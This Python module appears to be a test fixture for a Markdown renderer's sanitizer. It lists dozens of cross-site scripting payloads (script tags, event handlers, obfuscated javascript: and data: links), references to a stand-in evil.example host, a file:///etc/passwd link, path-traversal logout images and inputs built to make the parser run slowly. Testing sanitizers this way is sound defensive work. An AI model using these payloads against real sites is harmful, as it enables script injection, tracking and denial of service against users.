"""Markdown that tries to run a script, to fetch something, or to stop the server. `hit` is what the scripts set."""

from collections.abc import Callable
from functools import partial

RUN = "window.hit=1"

HTML = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=https://evil.example/x.js></SCRIPT><script\n>{RUN}</script\n>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<object data=javascript:hit=1></object><embed src=javascript:hit=1>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<a href=javascript:{RUN}>x</a>",
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css';</style>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml <img src=x onerror={RUN}>?>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<textarea></textarea><img src=x onerror={RUN}>",
    f"<title></title><script>{RUN}</script>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<div\n\nonclick={RUN}>\n\nx",
    f"\ufeff<script>{RUN}</script>",
    f"＜script＞{RUN}＜/script＞",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\<img src=x onerror={RUN}>",
]

LINKS = [
    "[x](javascript:hit=1)",
    "[x](JaVaScRiPt:hit=1)",
    "[x](<javascript:hit=1>)",
    "[x](<java\tscript:hit=1>)",
    "[x](java&#9;script:hit=1)",
    "[x](java&Tab;script:hit=1)",
    "[x](java&NewLine;script:hit=1)",
    "[x](&#106;avascript:hit=1)",
    "[x](&#x6A;&#x61;vascript&colon;hit=1)",
    "[x](\x01javascript:hit=1)",
    "[x](&#1;javascript:hit=1)",
    "[x](&nbsp;javascript:hit=1)",
    "[x](\u2028javascript:hit=1)",
    "[x](javascript\u200b:hit=1)",
    "[x](javascript\\:hit=1)",
    "[x](%6Aavascript:hit=1)",
    "[x](javascript%3Ahit=1)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>parent.hit=1</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](view-source:javascript:hit=1)",
    "[x](//evil.example/x)",
    "[x](/\\evil.example/x)",
    "[x](\\\\evil.example\\x)",
    "[x](/&#9;/evil.example)",
    "[x](https:evil.example)",
    "[x](http://[::1)",
    "[x](https://user:pass@evil.example@other.example/)",
    "[x](relative/path)",
    "[x](?next=javascript:hit=1)",
    "[x](mailto:a@example.org?body=%0d%0aBcc:b@example.org)",
    "[x][y]\n\n[y]: javascript:hit=1",
    "[x]\n\n[x]: <data:text/html,x> 'title'",
    "<javascript:hit=1>",
    "<data:text/html,x>",
    '<https://evil.example/"onmouseover=hit=1//>',
    '[x](/a/ "t\\" onmouseover=hit=1 x=\\"")',
    "[x](/a/ '\"><img src=x onerror=hit=1>')",
    '[x](/a"onmouseover=hit=1)',
    "[<img src=x onerror=hit=1>](/a/)",
    "[x](/a/){onclick=hit=1}",
]

PICTURES = [
    "![x](javascript:hit=1)",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](data:image/svg+xml,<svg onload=hit=1>)",
    "![x](/uploads/../admin/logout/)",
    "![x](/uploads/%2e%2e/admin/logout/)",
    "![x](/admin/logout/)",
    '!["onerror=hit=1 x="](/uploads/x.png)',
    '![x](/uploads/x.png "\\"onerror=hit=1")',
    '![x](/uploads/x.png"onerror="hit=1)',
    "![![x](javascript:hit=1)](https://evil.example/a.png)",
    "[![x](https://evil.example/a.png)](javascript:hit=1)",
    "![x][y]\n\n[y]: https://evil.example/a.svg",
]

EXTRAS = [
    "a[^1]\n\n[^1]: <script>hit=1</script> [x](javascript:hit=1)",
    'a[^"><script>hit=1</script>]\n\n[^"><script>hit=1</script>]: x',
    'a[^x"onclick=hit=1]\n\n[^x"onclick=hit=1]: y',
    "<script>hit=1</script>\n: <img src=x onerror=hit=1>",
    "| <script>hit=1</script> | [x](javascript:hit=1) |\n|---|:-:|\n| <img src=x onerror=hit=1> | `<b>` |",
    '| a |\n|:-"onclick=hit=1-:|\n| b |',
    '!!! note "<script>hit=1</script>"\n    <img src=x onerror=hit=1>',
    '!!! "onclick=hit=1" "x"\n    y',
    '!!! note"onmouseover=hit=1 "x"\n    y',
    '!!! term define is-collapsible "x"\n    y',
    '??? note "x"\n    y',
    "## <script>hit=1</script>",
    "## x {#x onclick=hit=1}",
    '## x {#x" onclick="hit=1}',
    "## x {#<script>hit=1</script>}",
    "## [x](javascript:hit=1) {#source-1}",
    "## define-empathy\n\n## note-1\n\n## fn1\n\n## main",
    '# "><img src=x onerror=hit=1>',
    "[[empathy|<script>hit=1</script>]]",
    '[[empathy|"><img src=x onerror=hit=1>]]',
    "[[<script>hit=1</script>]]",
    "[[javascript:hit=1]]",
    "[[!<img src=x onerror=hit=1>]]",
    "[[empathy|[x](javascript:hit=1)]]",
    '[@"><script>hit=1</script>]',
    "[@siegel2020, <script>hit=1</script>]",
    '[@siegel2020, " onclick=hit=1 x="]',
    '[@siegel2020; @"><img src=x onerror=hit=1>]',
    '```"onclick=hit=1><script>\n</code></pre><script>hit=1</script>\n```',
    "`</code><script>hit=1</script>`",
    "~~<s onclick=hit=1>~~ **<b onclick=hit=1>**",
    "- <script>hit=1</script>\n  1. <img src=x onerror=hit=1>",
    "999999999. <img src=x onerror=hit=1>",
    "\u202e<img src=x onerror=hit=1>\u202c [x](\u202ejavascript:hit=1)",
    "\ud800<script>hit=1</script>\udfff",
    "&#xD800;&#0;&#x110000;<script>hit=1</script>",
    "\r<script>hit=1</script>\r\n\x0b\x0c\x85",
]


def large(size: int) -> dict[str, str]:
    """One text of about `size` characters for each way in which reading could take too long."""
    fill = partial(_filled, size)
    deep = int((2 * size) ** 0.5)  # lines that grow from one to the next
    return (
        _links(size, deep, fill)
        | _blocks(size, deep, fill)
        | _signs(size, deep, fill)
        | _parts_of_a_page(size, deep, fill)
        | _letters(size, deep, fill)
    )


def _filled(size: int, unit: str, tail: str = "") -> str:
    """The unit again and again, `size` characters."""
    return (unit * (size // len(unit) + 1))[: size - len(tail)] + tail


def _links(size: int, deep: int, fill: Callable[..., str]) -> dict[str, str]:
    return {
        "open brackets": fill("["),
        "closed brackets": fill("]"),
        "bracket pairs": fill("[")[: size // 2] + "]" * (size // 2),
        "double open brackets": fill("[["),
        "citations that never end": fill("[@a; "),
        "citations": fill("[@a]"),
        "citation parts": "[" + "@a;" * (size * 3 // 10) + "]",
        "typed terms that never end": fill("[[a|"),
        "open pictures": fill("!["),
        "links in links": fill("[a]("),
        "link titles": fill('[a](b "'),
        "parentheses": "[a](" + fill("("),
    }


def _blocks(size: int, deep: int, fill: Callable[..., str]) -> dict[str, str]:
    return {
        "references": fill("[a]: b\n"),
        "deep quotations": fill(">"),
        "deep quotations with spaces": fill("> "),
        "deep lists": fill("- "),
        "deep numbered lists": fill("1. "),
        "stairs of lists": "\n".join("  " * n + "- a" for n in range(deep)),
        "stairs of definitions": "\n".join("  " * n + ": a" for n in range(deep)),
        "definitions": fill("a\n: b\n\n"),
        "definitions in definitions": "a\n" + fill(": "),
        "admonitions in admonitions": "\n".join("    " * n + "!!! note" for n in range(deep // 2)),
        "admonition titles": "!!! note " + fill('"'),
        "admonition spaces": "!!! " + fill(" ") + "x",
    }


def _signs(size: int, deep: int, fill: Callable[..., str]) -> dict[str, str]:
    return {
        "emphasis": fill("*a "),
        "emphasis, opened and closed": fill("*a **a "),
        "emphasis, both signs": fill("*_"),
        "nested emphasis": "*" * (size // 2) + "a" + "*" * (size // 2),
        "underscores": fill("_a"),
        "strikethrough": fill("~~a "),
        "backticks": fill("`a``"),
        "growing backticks": "".join("`" * n + " " for n in range(1, deep)),
        "backslashes": fill("\\"),
        "entities": fill("&#x"),
        "ampersands": fill("&"),
        "autolinks that never end": fill("<https://a"),
        "tags that never end": fill("<a "),
        "comments that never end": fill("<!--"),
    }


def _parts_of_a_page(size: int, deep: int, fill: Callable[..., str]) -> dict[str, str]:
    return {
        "footnotes": fill("[^1]") + "\n\n[^1]: x",
        "footnotes that never end": fill("[^"),
        "footnotes in footnotes": "".join(f"a[^{n}]\n\n[^{n}]: b[^{n + 1}]\n\n" for n in range(size // 40)),
        "cells": "|".join("a" * (size // 4)) + "\n" + "|".join("-" * (size // 4)) + "\n" + "|" * (size // 4),
        "rows": "|a|b|\n|-|-|\n" + fill("|a|b|\n"),
        "short rows of a wide table": "|".join("a" * 60) + "\n" + "|".join("-" * 60) + "\n" + "a\n" * deep,
        "headings": fill("# a\n"),
        "setext headings": fill("a\n===\n"),
        "anchors": "# a" + fill(" {#a}"),
        "spaces in a heading": "# a" + fill(" ") + "{#a",
    }


def _letters(size: int, deep: int, fill: Callable[..., str]) -> dict[str, str]:
    return {
        "spaces": fill(" ", "a"),
        "spaces in lines": fill("a  \n"),
        "tabs": fill("\t"),
        "line ends": fill("\n"),
        "carriage returns": fill("\r"),
        "apostrophes": fill("a'"),
        "words with hyphens": fill("empathy-"),
        "one word": fill("a"),
        "the same name": fill("mirror neuron system "),
        "beginnings of a name": fill("mirror neuron "),
        "full stops": fill(". A"),
        "capital sentences": fill("A. "),
        "accents": fill("a\u0301\u0327"),
        "control characters": fill("\x01\x02\x7f"),
        "no characters": fill("\u200b\ufeff"),
        "surrogates": fill("\ud800"),
    }


LARGE = large(20_000)
SMALL = [*HTML, *LINKS, *PICTURES, *EXTRAS]
